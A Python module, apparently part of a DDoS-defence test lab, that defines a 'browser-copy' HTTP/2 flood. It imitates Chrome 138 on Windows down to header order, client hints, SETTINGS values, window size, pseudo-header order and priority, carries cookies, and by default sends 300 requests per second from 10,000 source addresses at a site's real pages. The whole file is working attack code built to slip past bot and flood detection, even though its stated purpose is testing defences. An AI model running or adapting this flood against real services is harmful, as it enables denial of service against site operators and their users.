"""A flood that copies a popular browser: Chrome 138 on Windows, its headers in its order with its values, its
HTTP/2 settings, window, order of pseudo-headers and priority, over pages that the site has. What stays
different is TLS's first message, which is that of this machine's OpenSSL.
"""

from __future__ import annotations

import asyncio

from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.http2_frames import PREFACE, SETTINGS, frame
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.attacks.sessions import Bot, SessionParameters, crowd
from rempart.lab.clients.connecting import careless_tls
from rempart.lab.clients.http2 import Manner

WINDOW_UPDATE = 8
CHROME_SETTINGS = ((1, 65_536), (2, 0), (4, 6_291_456), (6, 262_144))
"""HEADER_TABLE_SIZE, ENABLE_PUSH, INITIAL_WINDOW_SIZE, MAX_HEADER_LIST_SIZE: as Chrome sends them."""
CHROME_WINDOW = 15_663_105
"""By how much Chrome opens the connection's window at once."""

CHROME = Manner(
    opening=PREFACE
    + frame(
        SETTINGS,
        0,
        0,
        b"".join(name.to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in CHROME_SETTINGS),
    )
    + frame(WINDOW_UPDATE, 0, 0, CHROME_WINDOW.to_bytes(4, "big")),
    settings=CHROME_SETTINGS,
    window=CHROME_WINDOW,
    pseudo=(":method", ":authority", ":scheme", ":path"),
    priority=True,
)

BROWSER_COPY = Attack(
    name="browser-copy",
    unit=Unit.REQUESTS,
    summary="Chrome copied header by header over HTTP/2, cookies kept, real pages from 10,000 addresses",
    defaults=SessionParameters(
        rate=300, sources=Sources.PREFIXES, source_count=10_000, v6_share=0.2, requests_per_connection=4
    ),
    sender=lambda order: own_sender(order, "browser_copy"),
)


def headers(bot: Bot) -> list[tuple[str, str]]:
    """What Chrome sends when a person types an address, or follows a link of the site."""
    lines = [
        ("sec-ch-ua", '"Not)A;Brand";v="8", "Chromium";v="138", "Google Chrome";v="138"'),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", '"Windows"'),
        ("upgrade-insecure-requests", "1"),
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
            " Chrome/138.0.0.0 Safari/537.36",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
            "application/signed-exchange;v=b3;q=0.7",
        ),
        ("sec-fetch-site", "same-origin" if bot.referer else "none"),
        ("sec-fetch-mode", "navigate"),
        ("sec-fetch-user", "?1"),
        ("sec-fetch-dest", "document"),
    ]
    if bot.referer:
        lines.append(("referer", bot.referer))
    lines += [("accept-encoding", "gzip, deflate, br, zstd"), ("accept-language", "en-US,en;q=0.9")]
    # Chrome gives each cookie a field of its own over HTTP/2 (RFC 9113, section 8.2.3).
    lines += [("cookie", f"{name}={value}") for name, value in bot.cookies.items()]
    return [*lines, ("priority", "u=0, i")]


def carry_out(order: Order, tally: Tally) -> None:
    parameters = SessionParameters.model_validate(order.parameters)
    context = careless_tls("h2", "http/1.1")
    asyncio.run(crowd(order, parameters, tally, context, headers, manner=CHROME))


if __name__ == "__main__":
    run_sender(carry_out)
